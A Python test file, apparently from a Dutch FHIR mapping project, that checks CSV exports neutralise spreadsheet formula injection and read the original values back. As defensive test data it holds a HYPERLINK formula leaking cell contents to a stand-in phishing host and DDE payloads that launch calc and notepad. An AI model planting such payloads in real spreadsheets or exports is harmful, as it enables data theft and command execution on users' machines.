"""Spreadsheet formula injection (OWASP CSV injection): every CSV cell the project writes that a
spreadsheet would run as a formula gets a ``'`` in front, and the importer reads it back to
the original value (the round-trip law, for any text)."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fhir_regie.mapping.cells import TRIGGERS, neutralise, restore
from fhir_regie.mapping.engine import map_records
from fhir_regie.mapping.readers import read_csv_tables
from fhir_regie.mapping.spec import load_partner
from fhir_regie.mapping.writers import write_csv_tables
from tools.mapping_golden import AT

ROOT = Path(__file__).resolve().parents[3] / "mappings"
GS = load_partner("gemeente-suite")
HYPERLINK = '=HYPERLINK("https://phish.example.org/?d="&A1,"Klik hier")'
DDE = "=cmd|' /C calc'!A0"
FIRST = [*sorted(TRIGGERS), "'", "''", "'=", "'-", "-", "+31", "0", "a", " ="]
# any text, and texts that start with what matters: triggers, quotes, numbers
cells = st.one_of(st.text(), st.builds(lambda a, b: a + b, st.sampled_from(FIRST), st.text()))


def _is_number(text: str) -> bool:
    body = text[1:] if text[:1] in "+-" else text
    parts = body.replace(",", ".").split(".")
    return len(parts) <= 2 and all(p.isascii() and p.isdigit() for p in parts)


@settings(max_examples=400)
@given(cells)
def test_reading_a_written_cell_gives_the_original_back(text):
    assert restore(neutralise(text)) == text


@settings(max_examples=400)
@given(cells)
def test_no_written_cell_starts_a_formula(text):
    written = neutralise(text)
    if written[:1] in TRIGGERS:
        assert _is_number(written), written          # only a plain number: -5, +31612345678
        assert written == text


@pytest.mark.parametrize(("value", "written"), [
    (HYPERLINK, "'" + HYPERLINK), (DDE, "'" + DDE), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("+31 26 351 2345", "'+31 26 351 2345"),
    ("-", "'-"), ("-5", "-5"), ("+31612345678", "+31612345678"), ("-0,5", "-0,5"),
    ("'=1+1", "''=1+1"), ("''", "'''"), ("'s-Hertogenbosch", "'s-Hertogenbosch"), ("'", "'"),
    ("06-12345678", "06-12345678"), ("", "")])
def test_examples(value, written):
    assert neutralise(value) == written
    assert restore(written) == value


def _export_with(description: str) -> tuple[dict[str, str], dict]:
    """The gemeente-suite golden Bundles with the first Task's description replaced, mapped to
    the partner's CSV."""
    bundles = json.loads((ROOT / "gemeente-suite/fixtures/expected-to-fhir.json").read_text())
    changed = copy.deepcopy(bundles)
    task = next(e["resource"] for b in changed for e in b["entry"]
                if e["resource"]["resourceType"] == "Task")
    task["description"] = description
    result = map_records("gemeente-suite", "from-fhir", changed, at=AT)
    assert result.errors == []
    return write_csv_tables(GS, [o.value for o in result.outputs]), task


@pytest.mark.parametrize("description", [HYPERLINK, DDE, "@SUM(1+1)*cmd|' /C notepad'!A1"])
def test_a_task_description_formula_is_neutralised_in_the_partner_csv_and_reads_back(
        description):
    files, task = _export_with(description)
    text = files["acties.csv"]
    row = next(line for line in text.splitlines() if "HYPERLINK" in line or "cmd|" in line)
    cells = row.split(";")
    # the description cell (csv-quoted when it holds the delimiter or quotes) starts with '
    found = [c for c in cells if "HYPERLINK" in c or "cmd|" in c]
    assert found, row
    assert all(c.lstrip('"').startswith("'") for c in found), row
    assert not any(c.lstrip('"')[:1] in TRIGGERS for c in cells if not _is_number(c)), row
    read = read_csv_tables(GS, files)
    assert read.errors == []
    descriptions = [a["omschrijving"] for r in read.records for a in r.data["acties"]]
    assert description in descriptions
    # and back to FHIR: the Task carries the original text, not the escaped one
    back = map_records("gemeente-suite", "to-fhir", read.records, at=AT)
    assert back.errors == []
    tasks = [e.resource for o in back.outputs for e in o.value.entry
             if e.resource.__class__.__name__ == "Task"]
    assert description in [t.description for t in tasks]
    assert task["description"] == description


def test_the_golden_csv_has_no_formula_cells_and_is_unchanged():
    """The fixtures hold no cell a spreadsheet would run, so neutralising changes none of them
    (test_golden.py compares the full files)."""
    for path in sorted((ROOT / "gemeente-suite/fixtures/expected-from-fhir").glob("*.csv")):
        for line in path.read_text().splitlines():
            for cell in line.split(";"):
                assert neutralise(cell) == cell, (path.name, cell)


def test_a_sync_drop_directory_export_is_neutralised_and_reads_back(tmp_path):
    """The sync engine's outbox uses the same writer, its inbox the same reader."""
    from fhir_regie.sync.dropdir import read_export, write_export

    bundles = json.loads((ROOT / "gemeente-suite/fixtures/expected-to-fhir.json").read_text())
    result = map_records("gemeente-suite", "from-fhir", bundles, at=AT)
    records = [copy.deepcopy(o.value) for o in result.outputs]
    records[0]["acties"][0]["omschrijving"] = DDE
    folder = write_export(tmp_path / "outbox", GS, "batch-0001", records)
    assert f";'{DDE};" in (folder / "acties.csv").read_text()     # no ; or " in it: unquoted
    read = read_export(GS, folder)
    assert read.errors == []
    assert DDE in [a["omschrijving"] for r in read.records for a in r.data["acties"]]
